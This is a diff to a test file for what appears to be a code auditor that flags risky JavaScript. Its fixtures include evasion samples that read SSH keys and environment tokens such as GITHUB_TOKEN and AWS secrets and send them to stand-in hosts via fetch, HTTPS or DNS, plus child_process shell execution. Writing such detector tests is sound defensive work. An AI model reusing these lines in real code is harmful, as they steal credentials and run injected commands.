@@ -82,7 +82,7 @@ def test_ordinary_code_passes(source: str) -> None:
         "Reflect.apply(eval, null, [input])",
         "[eval][0](input)",
         "require('child_process')['e' + 'xec'](input)",
-        "const cp = require('node:child_process'); const { execSync: run } = cp; run(`ls ${input}`)",
+        "const cp = require('node:child_process'); const { execSync: run } = cp; run(`sh -c ${input}`)",
         "import cp, { exec as e } from 'child_process'; e(input)",
         "import def from 'child_process'; def.exec(input)",
         "const run = require('util').promisify(require('child_process').exec); run(input)",
@@ -190,7 +190,7 @@ EVASIONS = [
     "const t=setTimeout; t('go('+x+')')",
     "eval(require('zlib').inflateSync(Buffer.from(x,'base64')).toString())",
     "const d=require('fs').readFileSync('/root/.ssh/id_rsa');require('https').request({hostname:'x.invalid'}).end(d)",
-    "class S{constructor(k){this.k=k} go(){fetch('http://x.invalid',{body:this.k})}}; new S(process.env.X_TOKEN).go()",
+    "class S{constructor(k){this.k=k} go(){fetch('http://x.invalid',{body:this.k})}}; new S(process.env.GITHUB_TOKEN).go()",
     "const e={...process.env}; fetch('http://x.invalid',{method:'POST',body:JSON.stringify(e)})",
     "let b=''; for (const [k,v] of Object.entries(process.env)) b+=k+v; require('https').get('http://x.invalid/?'+b)",
     "require('dns').lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex')+'.example.invalid')",
@@ -270,7 +270,7 @@ def test_an_answer_from_the_network_is_not_the_secret_that_was_sent_for_it() -> 
 
 
 def test_code_that_does_not_parse_is_judged_in_part_and_said_to_be_incomplete() -> None:
-    rules = found("eval(input);\n}} ((\nconst k = process.env.A_TOKEN;\n")
+    rules = found("eval(input);\n}} ((\nconst k = process.env.GITHUB_TOKEN;\n")
     assert {"javascript-eval", "code-credential-env", "audit-incomplete"} <= rules.keys()
 
 
